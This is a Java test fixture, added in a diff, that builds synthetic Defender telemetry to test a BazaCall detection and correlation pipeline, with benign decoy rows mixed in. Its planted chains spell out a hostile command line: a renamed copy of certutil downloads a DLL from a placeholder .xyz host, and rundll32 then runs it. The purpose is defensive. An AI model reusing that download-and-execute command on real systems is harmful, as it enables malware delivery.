@@ -1,0 +1,235 @@
+package dev.bazahunt.job.testing;
+
+import com.fasterxml.jackson.databind.ObjectMapper;
+import com.fasterxml.jackson.databind.node.ArrayNode;
+import com.fasterxml.jackson.databind.node.ObjectNode;
+import dev.bazahunt.alert.AlertIds;
+import dev.bazahunt.correlation.ProcessInstanceKey;
+import dev.bazahunt.rules.RuleIds;
+import dev.bazahunt.telemetry.DefenderTimestamps;
+import dev.bazahunt.telemetry.DeviceFileEvent;
+import java.time.Duration;
+import java.time.Instant;
+import java.util.ArrayList;
+import java.util.Comparator;
+import java.util.HexFormat;
+import java.util.List;
+import java.util.Random;
+import java.util.Set;
+import java.util.TreeSet;
+
+/**
+ * A fleet's Defender telemetry as the Streaming API delivers it: Event Hubs messages of up to 10 rows,
+ * each message one device's burst of activity, keyed by DeviceId, in event-time order. Among the noise
+ * (including near-misses: real certutil CRL fetches, CryptnetUrlCache writes by svchost, an https
+ * download by cmd's certutil, benign Excel children) it plants complete BazaCall chains: Excel spawns
+ * {@code cmd /c mkdir … && copy …certutil.exe …}, the renamed copy downloads a payload and writes its
+ * two CryptnetUrlCache entries, and two minutes later Excel runs the payload with rundll32
+ * {@code ,GlobalOut}. Each chain gives exactly one base and one correlated alert, whose AlertIds are
+ * known in advance because they are name-based UUIDs of the rule id and the process instance.
+ */
+public final class BazaCallFleetTelemetry {
+    private static final ObjectMapper JSON = new ObjectMapper();
+    private static final String TENANT = "3f2b9c1e-5d7a-4a1b-9c2d-7e5f1a2b3c4d";
+    private static final int ROWS_PER_MESSAGE = 10;
+    private static final long RENAMED_CERTUTIL_PID = 7212;
+
+    /** One Event Hubs message: its Kafka key and its {@code {"records":[…]}} body. */
+    public record Message(String deviceId, String body) {}
+
+    private final List<Message> messages;
+    private final int rowCount;
+    private final Set<String> expectedAlertIds = new TreeSet<>();
+    private final Instant end;
+    private long nextReportId = 40_000;
+
+    /**
+     * @param rows about how many rows to generate (noise plus the chains)
+     * @param devices how many devices the noise is spread over
+     * @param chains how many BazaCall chains to plant, each on its own device
+     */
+    public BazaCallFleetTelemetry(long seed, int rows, int devices, int chains, Instant start, Duration span) {
+        Random random = new Random(seed);
+        List<String> fleet = new ArrayList<>();
+        for (int i = 0; i < devices; i++) {
+            byte[] id = new byte[20];
+            random.nextBytes(id);
+            fleet.add(HexFormat.of().formatHex(id));
+        }
+        List<Burst> bursts = new ArrayList<>();
+        int noiseRows = 0;
+        while (noiseRows < rows) {
+            Instant at = start.plusMillis((long) (random.nextDouble() * span.toMillis()));
+            String device = fleet.get(random.nextInt(devices));
+            Burst burst = noiseBurst(random, device, at);
+            noiseRows += burst.rows.size();
+            bursts.add(burst);
+        }
+        for (int chain = 0; chain < chains; chain++) {
+            Instant at = start.plusMillis(span.toMillis() * (chain + 1) / (chains + 1));
+            bursts.addAll(plantChain(fleet.get(chain * (devices / Math.max(chains, 1))), chain, at));
+        }
+        bursts.sort(Comparator.comparing(Burst::at));
+        List<Message> built = new ArrayList<>(bursts.size());
+        int count = 0;
+        Instant last = start;
+        for (Burst burst : bursts) {
+            for (int from = 0; from < burst.rows.size(); from += ROWS_PER_MESSAGE) {
+                built.add(message(burst.device, burst.rows.subList(from, Math.min(burst.rows.size(), from + ROWS_PER_MESSAGE))));
+            }
+            count += burst.rows.size();
+            last = burst.at.isAfter(last) ? burst.at : last;
+        }
+        this.messages = built;
+        this.rowCount = count;
+        this.end = last;
+    }
+
+    public List<Message> messages() {
+        return messages;
+    }
+
+    public int rowCount() {
+        return rowCount;
+    }
+
+    /** The base and correlated AlertIds of every planted chain, and nothing else. */
+    public Set<String> expectedAlertIds() {
+        return expectedAlertIds;
+    }
+
+    /**
+     * One benign row a day after the last event, for the given device: sent to every partition, it moves
+     * each partition's watermark past every correlation window, so all pending alerts complete.
+     */
+    public Message clockMessage(String device) {
+        return message(device, List.of(TestRows.benign(device, end.plus(Duration.ofDays(1)), 1)));
+    }
+
+    private record Burst(Instant at, String device, List<ObjectNode> rows) {}
+
+    private Burst noiseBurst(Random random, String device, Instant at) {
+        List<ObjectNode> rows = new ArrayList<>();
+        int size = 1 + random.nextInt(2 * ROWS_PER_MESSAGE - 4);
+        for (int i = 0; i < size; i++) {
+            Instant rowAt = at.plusMillis(i * 40L + random.nextInt(40));
+            rows.add(switch (random.nextInt(20)) {
+                case 0 -> nearMissCrlFetch(device, rowAt);
+                case 1 -> cryptnetCacheDecoy(device, rowAt);
+                case 2 -> httpsDownloadByCmd(device, rowAt);
+                case 3 -> TestRows.excelChild(device, rowAt, reportId(), 9000 + random.nextInt(2000), "splwow64.exe",
+                        "splwow64.exe 8192");
+                case 4, 5, 6, 7, 8 -> processStart(device, rowAt, random);
+                default -> TestRows.benign(device, rowAt, reportId());
+            });
+        }
+        return new Burst(at, device, rows);
+    }
+
+    private List<Burst> plantChain(String device, int chain, Instant at) {
+        String folder = "C:\\Users\\Public\\bz" + chain;
+        String renamed = "bz" + chain + ".exe";
+        String payload = folder + "\\tmp" + (1000 + chain) + ".dll";
+        ObjectNode copy = TestRows.excelChild(device, at, reportId(), 6640, "cmd.exe",
+                "cmd.exe /c mkdir " + folder + " && copy C:\\Windows\\System32\\certutil.exe " + folder + "\\" + renamed
+                        + " && " + folder + "\\" + renamed + " -urlcache -split -f http://d" + chain + "x.xyz/g.php " + payload);
+
+        Instant downloadAt = at.plusSeconds(3);
+        String processCreation = TestRows.nanos(downloadAt.minusMillis(150));
+        List<ObjectNode> download = new ArrayList<>();
+        String[] written = {payload,
+                "C:\\Users\\m.ortiz\\AppData\\LocalLow\\Microsoft\\CryptnetUrlCache\\Content\\" + cacheName(chain),
+                "C:\\Users\\m.ortiz\\AppData\\LocalLow\\Microsoft\\CryptnetUrlCache\\MetaData\\" + cacheName(chain)};
+        for (int i = 0; i < written.length; i++) {
+            ObjectNode row = TestRows.download(device, downloadAt.plusMillis(100L * i), reportId());
+            row.put("FolderPath", written[i]);
+            row.put("FileName", written[i].substring(written[i].lastIndexOf('\\') + 1));
+            row.put("InitiatingProcessFileName", renamed);
+            row.put("InitiatingProcessFolderPath", folder.toLowerCase() + "\\" + renamed);
+            row.put("InitiatingProcessCommandLine",
+                    renamed + "  -urlcache -split -f http://d" + chain + "x.xyz/g.php " + payload);
+            row.put("InitiatingProcessCreationTime", processCreation);
+            download.add(row);
+        }
+        ObjectNode run = TestRows.excelChild(device, at.plusSeconds(120), reportId(), 7388, "rundll32.exe",
+                "rundll32.exe " + payload + ",GlobalOut");
+
+        DeviceFileEvent instance = new DeviceFileEvent();
+        instance.deviceId = device;
+        instance.initiatingProcessId = RENAMED_CERTUTIL_PID;
+        instance.initiatingProcessCreationTime = DefenderTimestamps.parseNanos(processCreation);
+        String key = ProcessInstanceKey.of(instance);
+        expectedAlertIds.add(AlertIds.of(RuleIds.CERTUTIL_DOWNLOAD, key));
+        expectedAlertIds.add(AlertIds.of(RuleIds.BAZACALL_CORRELATION, key));
+
+        return List.of(new Burst(at, device, List.of(copy)), new Burst(downloadAt, device, download),
+                new Burst(at.plusSeconds(120), device, List.of(run)));
+    }
+
+    private static String cacheName(int chain) {
+        return String.format("%032X", 0x9F3A1C0E5B7DL + chain);
+    }
+
+    /** The real certutil fetching a CRL: the rule's {@code !~ "certutil.exe"} excludes it. */
+    private ObjectNode nearMissCrlFetch(String device, Instant at) {
+        ObjectNode row = TestRows.download(device, at, reportId());
+        row.put("InitiatingProcessFileName", "certutil.exe");
+        row.put("InitiatingProcessFolderPath", "c:\\windows\\system32\\certutil.exe");
+        row.put("InitiatingProcessCommandLine", "certutil.exe -urlcache -split -f http://crl.microsoft.com/pki/crl/products/MicRooCerAut2011.crl");
+        row.put("FolderPath", "C:\\Windows\\Temp\\MicRooCerAut2011.crl");
+        row.put("FileName", "MicRooCerAut2011.crl");
+        return row;
+    }
+
+    /** svchost maintaining the CryptnetUrlCache: "urlcache" in the path, never in a matching command line. */
+    private ObjectNode cryptnetCacheDecoy(String device, Instant at) {
+        ObjectNode row = TestRows.benign(device, at, reportId());
+        row.put("ActionType", "FileCreated");
+        row.put("FolderPath", "C:\\Windows\\System32\\config\\systemprofile\\AppData\\LocalLow\\Microsoft\\CryptnetUrlCache\\MetaData\\57C8EDB95DF3F0AD4EE2DC2B8CFD4157");
+        row.put("FileName", "57C8EDB95DF3F0AD4EE2DC2B8CFD4157");
+        row.put("InitiatingProcessCommandLine", "svchost.exe -k NetworkService -p -s CryptSvc");
+        return row;
+    }
+
+    /** A renamed certutil fetching over https: {@code has "http"} does not match the term {@code https}. */
+    private ObjectNode httpsDownloadByCmd(String device, Instant at) {
+        ObjectNode row = TestRows.download(device, at, reportId());
+        row.put("InitiatingProcessCommandLine", "x8k2.exe -urlcache -split -f https://cdn.contoso.com/agent.msi C:\\Temp\\agent.msi");
+        return row;
+    }
+
+    private ObjectNode processStart(String device, Instant at, Random random) {
+        String[][] programs = {
+                {"chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer"},
+                {"OneDrive.exe", "\"C:\\Users\\m.ortiz\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background"},
+                {"conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"},
+                {"taskhostw.exe", "taskhostw.exe Install $(Arg0)"}};
+        String[] program = programs[random.nextInt(programs.length)];
+        ObjectNode row = TestRows.excelChild(device, at, reportId(), 1000 + random.nextInt(30000), program[0], program[1]);
+        row.put("InitiatingProcessFileName", "explorer.exe");
+        row.put("InitiatingProcessId", 4120);
+        return row;
+    }
+
+    private long reportId() {
+        return nextReportId++;
+    }
+
+    private static Message message(String device, List<ObjectNode> rows) {
+        ObjectNode body = JSON.createObjectNode();
+        ArrayNode records = body.putArray("records");
+        for (ObjectNode row : rows) {
+            ObjectNode record = records.addObject();
+            String table = row.get("Type").asText();
+            ObjectNode properties = row.deepCopy();
+            properties.remove("Type");
+            // Defender receives a row a little after it happened; event time is the row's own Timestamp.
+            record.put("time", TestRows.nanos(Instant.parse(row.get("Timestamp").asText()).plusSeconds(40)));
+            record.put("tenantId", TENANT);
+            record.put("operationName", "Publish");
+            record.put("category", "AdvancedHunting-" + table);
+            record.set("properties", properties);
+        }
+        return new Message(device, TestRows.line(body));
+    }
+}
